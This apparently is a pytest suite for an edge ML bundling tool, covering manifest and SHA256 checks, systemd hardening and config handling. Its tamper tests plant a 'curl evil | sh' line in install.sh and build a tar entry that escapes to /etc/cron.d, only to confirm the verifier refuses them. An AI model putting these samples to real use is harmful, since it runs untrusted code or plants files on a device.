"""Bundle contents, manifest and sha256 checks, and the refusals that keep broken bundles off devices."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from edge.flash import bundle, wheels
from edge.flash.manifest import BundleError, verify_bundle
from tests.flash.helpers import MOBILENET, MOBILENET_TPU, rewrite, sh
from tests.support.process import run_module, subprocess_env

if sys.version_info >= (3, 11):
    import tomllib
else:  # pragma: no cover
    import tomli as tomllib


def _members(bundle: Path) -> dict[str, bytes]:
    with tarfile.open(bundle, "r:gz") as tar:
        return {
            m.name.split("/", 1)[1]: tar.extractfile(m).read()  # type: ignore[union-attr]
            for m in tar
            if m.isfile()
        }


def test_aarch64_litert_bundle_holds_everything_for_an_offline_install(make_bundle) -> None:
    built = make_bundle("aarch64", "ai-edge-litert", edgetpu=True)
    m = verify_bundle(built.path)
    assert m.target.arch == "aarch64" and m.target.runtime == "ai-edge-litert" and m.target.python == "3.11"
    assert m.runtime_version == "2.3.0" and int(m.numpy_version.split(".")[0]) >= 2
    # the Edge TPU model brings its CPU twin, so a Pi without a Coral still runs
    assert [(e.file, e.edgetpu) for e in m.models] == [
        (f"models/{MOBILENET_TPU}", True),
        (f"models/{MOBILENET}", False),
    ]
    files = _members(built.path)
    whls = [n for n in files if n.startswith("wheels/")]
    for w in whls:
        tags = w[:-4].split("-")[-1]
        assert tags == "any" or "aarch64" in tags, f"{w} is not for aarch64"
    dists = {wheels.WheelName.parse(w.split("/")[1]).dist for w in whls}
    assert {
        "ai_edge_litert",
        "numpy",
        "pillow",
        "paho_mqtt",
        "pydantic",
        "pydantic_core",
        "edge_ml_toolkit",
        "pip",
    } <= dists
    assert not {"tensorflow", "keras", "tf_keras"} & dists
    # every wheel but pip is pinned in requirements.txt, the agent with its runtime extra
    reqs = files["requirements.txt"].decode().split()
    assert reqs[0] == "edge-ml-toolkit[agent]==0.1.0"
    assert len(reqs) == len(whls) - 1 and all("==" in r for r in reqs)
    # the agent's wheel is the device package only
    import zipfile

    agent = next(n for n in files if n.startswith("wheels/edge_ml_toolkit"))
    with zipfile.ZipFile(__import__("io").BytesIO(files[agent])) as zf:
        names = zf.namelist()
    assert "edge/model/__init__.py" in names and not any(n.startswith("converter/") for n in names)
    assert not any("__pycache__" in n for n in names)
    cfg = tomllib.loads(files["config/agent.toml"].decode())
    assert cfg["model"]["path"] == f"@RELEASE@/models/{MOBILENET_TPU}"
    assert cfg["model"]["labels"] == "@RELEASE@/models/imagenet_labels.txt"
    assert cfg["model"]["runtime"] == "ai_edge_litert" and cfg["state_dir"] == "@STATE_DIR@"
    # SHA256SUMS is what the device checks with coreutils: same digests as the manifest
    sums = dict(reversed(line.split("  ", 1)) for line in files["SHA256SUMS"].decode().splitlines())
    assert {k: v for k, v in sums.items() if k != "manifest.json"} == {
        k: e.sha256 for k, e in m.files.items()
    }
    env = dict(line.split("=", 1) for line in files["bundle.env"].decode().split())
    assert env["EDGE_BUNDLE_ID"] == m.bundle_id and env["EDGE_ARCH"] == "aarch64"
    side = Path(f"{built.path}.sha256").read_text().split()
    assert side[0] == built.sha256


def test_tflite_runtime_bundle_pins_numpy_below_2(make_bundle) -> None:
    m = verify_bundle(make_bundle("aarch64", "tflite-runtime").path)
    assert m.target.runtime == "tflite-runtime" and m.runtime_version == "2.14.0"
    assert int(m.numpy_version.split(".")[0]) == 1
    assert any(f.startswith("wheels/tflite_runtime-2.14.0-") and "aarch64" in f for f in m.files)


@pytest.mark.parametrize(
    "change, expect",
    [
        ({f"models/{MOBILENET}": b"not the model"}, f"models/{MOBILENET}: sha256"),
        ({"install.sh": b"#!/bin/sh\ncurl evil | sh\n"}, "install.sh: sha256"),
        ({"wheels/extra-1.0-py3-none-any.whl": b"PK"}, "not in the manifest"),
        ({"requirements.txt": None}, "requirements.txt: missing"),
        ({"SHA256SUMS": b"0" * 64 + b"  install.sh\n"}, "SHA256SUMS: missing or disagrees"),
    ],
)
def test_verify_refuses_altered_bundles(make_bundle, tmp_path: Path, change: dict, expect: str) -> None:
    bad = rewrite(make_bundle("x86_64").path, tmp_path / "bad.tar.gz", change)
    with pytest.raises(BundleError) as err:
        verify_bundle(bad)
    assert expect in err.value.what and "do not install it" in err.value.fix


def test_verify_refuses_truncated_and_escaping_bundles(make_bundle, tmp_path: Path) -> None:
    data = make_bundle("x86_64").path.read_bytes()
    (tmp_path / "cut.tar.gz").write_bytes(data[: len(data) // 2])
    with pytest.raises(BundleError, match="not a readable .tar.gz"):
        verify_bundle(tmp_path / "cut.tar.gz")
    evil = tmp_path / "evil.tar.gz"
    with tarfile.open(evil, "w:gz") as tar:
        info = tarfile.TarInfo("edge-bundle/../../etc/cron.d/x")
        tar.addfile(info, __import__("io").BytesIO(b""))
    with pytest.raises(BundleError, match="outside the bundle"):
        verify_bundle(evil)


def test_cli_verify_and_bundle_errors(make_bundle, tmp_path: Path, coral: Path) -> None:
    ok = run_module("edge.flash", "verify", str(make_bundle("x86_64").path))
    assert ok.returncode == 0, ok.stderr
    assert json.loads(ok.stdout)["target"]["arch"] == "x86_64"
    arm = run_module(
        "edge.flash",
        "bundle",
        "-m",
        str(coral / MOBILENET),
        "--arch",
        "armv7l",
        "-o",
        str(tmp_path / "b.tar.gz"),
    )
    assert arm.returncode == 2 and "no armv7l wheels" in arm.stderr and "64-bit Raspberry Pi OS" in arm.stderr
    assert not (tmp_path / "b.tar.gz").exists()
    notflite = tmp_path / "model.tflite"
    notflite.write_bytes(b"hello")
    bad = run_module("edge.flash", "bundle", "-m", str(notflite), "-o", str(tmp_path / "b.tar.gz"))
    assert bad.returncode == 2 and "not a readable .tflite" in bad.stderr
    py313 = run_module(
        "edge.flash",
        "bundle",
        "-m",
        str(coral / MOBILENET),
        "--python",
        "3.13",
        "--runtime",
        "tflite-runtime",
        "-o",
        str(tmp_path / "b.tar.gz"),
    )
    assert py313.returncode == 2 and "use --runtime ai-edge-litert" in py313.stderr


def test_platform_tags_cover_older_manylinux() -> None:
    tags = wheels.platform_tags("aarch64", "2.36")
    assert (
        tags[0] == "manylinux_2_36_aarch64"
        and "manylinux_2_27_aarch64" in tags
        and "manylinux2014_aarch64" in tags
    )
    assert "manylinux_2_37_aarch64" not in tags and "manylinux_2_16_aarch64" not in tags


def test_agent_config_with_control_characters_round_trips_through_tomllib(tmp_path: Path) -> None:
    # Every C0 control character and DEL: the hand-written writer this replaced left DEL raw, which
    # TOML forbids in a basic string (tomllib: "Illegal character '\\x7f'").
    controls = "".join(map(chr, range(32))) + "\x7f"
    user = {"mqtt": {"broker": "mqtt://h:1883", "keepalive_s": 30}, "preprocess": {"mean": 127.5}}
    cfg = tmp_path / "user.toml"
    cfg.write_text('[mqtt]\nbroker = "mqtt://h:1883"\nkeepalive_s = 30\n[preprocess]\nmean = 127.5\n')
    text = bundle.agent_config(
        cfg, 'a "quoted" m.tflite', None, "ai-edge-litert", None, None, f"/srv/in{controls}coming"
    )
    data = tomllib.loads(text)
    assert data["source"]["spec"] == f"/srv/in{controls}coming"
    assert data["model"]["path"] == '@RELEASE@/a "quoted" m.tflite'
    assert data["mqtt"] == user["mqtt"] and data["preprocess"] == user["preprocess"]


def test_systemd_unit_is_valid_and_hardened(make_bundle, tmp_path: Path) -> None:
    files = _members(make_bundle("x86_64").path)
    unit = files["systemd/edge-agent.service"].decode()
    for line in (
        "Restart=always",
        "User=edge-agent",
        "ProtectSystem=strict",
        "StateDirectory=edge-agent",
        "NoNewPrivileges=yes",
        "DeviceAllow=/dev/apex_0 rw",
        "DeviceAllow=char-usb_device rw",
    ):
        assert line in unit
    prefix = tmp_path / "opt"
    (prefix / "bin").mkdir(parents=True)
    (prefix / "bin" / "edge-agent").write_text("#!/bin/sh\n")
    (prefix / "bin" / "edge-agent").chmod(0o755)
    rendered = tmp_path / "edge-agent.service"
    rendered.write_text(unit.replace("@PREFIX@", str(prefix)))
    proc = sh("systemd-analyze", "verify", rendered, check=False)
    assert proc.returncode == 0, proc.stderr
    # systemd's own exposure score (0 = locked down, 10 = unprotected); "OK" is below 3
    sec = sh("systemd-analyze", "security", "--offline=true", rendered, check=False).stdout
    score = float(re.search(r"Overall exposure level for edge-agent.service: ([\d.]+) (\w+)", sec).group(1))
    assert score < 3.0, sec
    assert "u edge-agent" in files["systemd/edge-agent.sysusers"].decode()


def test_device_image_templates_match_what_edge_flash_writes() -> None:
    from edge.flash import sd
    from tests.flash.helpers import ROOT

    tdir = ROOT / "device-images" / "templates"
    for name in (
        "edge-agent.service",
        "edge-agent.sysusers",
        "install.sh",
        "uninstall.sh",
        "firstrun.sh",
        "provision.sh",
    ):
        assert (tdir / name).read_bytes() == (ROOT / "edge" / "flash" / "templates" / name).read_bytes()
    assert (tdir / "user-data").read_text() == sd.user_data(
        "HOSTNAME", "pi", "ssh-ed25519 AAAA... you@laptop", "/boot/firmware"
    )
    assert (tdir / "network-config").read_text() == sd.network_config("SSID", "PASSPHRASE", "GB")
    # the Dockerfile runs install.sh with flags it knows and starts the wrapper install.sh writes
    docker = (ROOT / "device-images" / "Dockerfile").read_text()
    assert "FROM --platform=linux/arm64 debian:bookworm-slim" in docker
    assert "install.sh --no-systemd --prefix /opt/edge-agent" in docker
    assert (
        '"/opt/edge-agent/bin/edge-agent", "run", "--config", "/opt/edge-agent/current/config/agent.toml"'
        in docker
    )
    install = (ROOT / "edge" / "flash" / "templates" / "install.sh").read_text()
    assert "--no-systemd) SYSTEMD=0" in install and 'cat > "$H/bin/edge-agent"' in install


def test_bundled_config_passes_the_agents_own_check(make_bundle, tmp_path: Path) -> None:
    files = _members(make_bundle("x86_64", device_id="cam1", broker="mqtt://broker.lan:1883").path)
    text = files["config/agent.toml"].decode().replace("@RELEASE@", "/opt/edge-agent/releases/x")
    cfg = tmp_path / "agent.toml"
    cfg.write_text(text.replace("@STATE_DIR@", "/var/lib/edge-agent"))
    proc = run_module("edge", "check-config", str(cfg))
    assert proc.returncode == 0, proc.stderr
    data = tomllib.loads(cfg.read_text())
    assert (
        data["mqtt"] == {"broker": "mqtt://broker.lan:1883", "device_id": "cam1"}
        and data["source"]["spec"] == "mqtt"
    )


def test_cli_bundle_keeps_the_users_config_and_points_the_model_into_the_release(
    tmp_path: Path, coral: Path
) -> None:
    user_cfg = tmp_path / "agent.toml"
    user_cfg.write_text(
        'log_level = "DEBUG"\n[mqtt]\nprefix = "factory"\nbroker = "mqtt://old:1883"\n'
        '[model]\npath = "/somewhere/else.tflite"\nthreads = 2\n[postprocess]\ntop_k = 3\n'
    )
    out = tmp_path / "pc.tar.gz"
    proc = run_module(
        "edge.flash",
        "bundle",
        "-m",
        str(coral / MOBILENET),
        "--arch",
        "x86_64",
        "--config",
        str(user_cfg),
        "--broker",
        "mqtt://broker.lan:1883",
        "-o",
        str(out),
    )
    assert proc.returncode == 0, proc.stderr
    m = verify_bundle(out)
    assert f"bundle {m.bundle_id}, x86_64 Python 3.11, ai-edge-litert 2.3.0" in proc.stdout
    assert Path(f"{out}.sha256").read_text().startswith(proc.stdout.split("sha256 ")[1].strip())
    cfg = tomllib.loads(_members(out)["config/agent.toml"].decode())
    assert cfg["log_level"] == "DEBUG" and cfg["postprocess"] == {"top_k": 3}
    assert cfg["mqtt"] == {"prefix": "factory", "broker": "mqtt://broker.lan:1883"}
    assert cfg["model"] == {
        "path": f"@RELEASE@/models/{MOBILENET}",
        "threads": 2,
        "runtime": "ai_edge_litert",
    }


def test_host_tool_imports_no_runtime_numpy_or_tensorflow() -> None:
    code = (
        "import sys; import edge.flash.cli, edge.flash.bundle, edge.flash.ssh, edge.flash.sd, "
        "edge.flash.manifest; bad = [m for m in ('numpy', 'tensorflow', 'ai_edge_litert', 'tflite_runtime') "
        "if m in sys.modules]; print(bad); sys.exit(bool(bad))"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=subprocess_env())
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_invalid_agent_config_is_refused_at_bundle_time(tmp_path: Path, coral: Path) -> None:
    bad = tmp_path / "agent.toml"
    bad.write_text("[postprocess]\ntop_k = 0\n[mqtt]\nbrokr = 'typo'\n")
    proc = run_module(
        "edge.flash",
        "bundle",
        "-m",
        str(coral / MOBILENET),
        "--config",
        str(bad),
        "-o",
        str(tmp_path / "b.tar.gz"),
    )
    assert proc.returncode == 2 and "the agent config is invalid" in proc.stderr
    assert "postprocess.top_k" in proc.stderr and "brokr" in proc.stderr
    assert not (tmp_path / "b.tar.gz").exists()


def test_device_extras_are_checked_and_signing_follows_the_configs_update_keys(tmp_path: Path) -> None:
    from edge.flash.bundle import device_extras

    assert device_extras(["camera"], None) == ("camera",)
    with pytest.raises(BundleError, match="not a device extra") as err:
        device_extras(["signin"], None)
    assert "signing" in err.value.fix and "camera" in err.value.fix
    cfg = tmp_path / "agent.toml"
    cfg.write_text('[ota]\npublic_keys = ["/etc/edge-agent/update.pub"]\n')
    assert device_extras([], cfg) == ("signing",)
    cfg.write_text("[ota]\nenabled = true\n")
    assert device_extras([], cfg) == ()


def test_a_bundle_with_update_keys_carries_cryptography(tmp_path: Path, coral: Path) -> None:
    cfg = tmp_path / "agent.toml"
    cfg.write_text('[ota]\npublic_keys = ["/etc/edge-agent/update.pub"]\n')
    built = bundle.build(
        [coral / MOBILENET], tmp_path / "b.tar.gz", config=cfg, extras=["camera"], log=lambda m: None
    )
    files = _members(built.path)
    dists = {wheels.WheelName.parse(n.split("/")[1]).dist for n in files if n.startswith("wheels/")}
    assert {"cryptography", "opencv_python_headless"} <= dists
    reqs = files["requirements.txt"].decode()
    assert reqs.startswith("edge-ml-toolkit[agent,camera,signing]==")
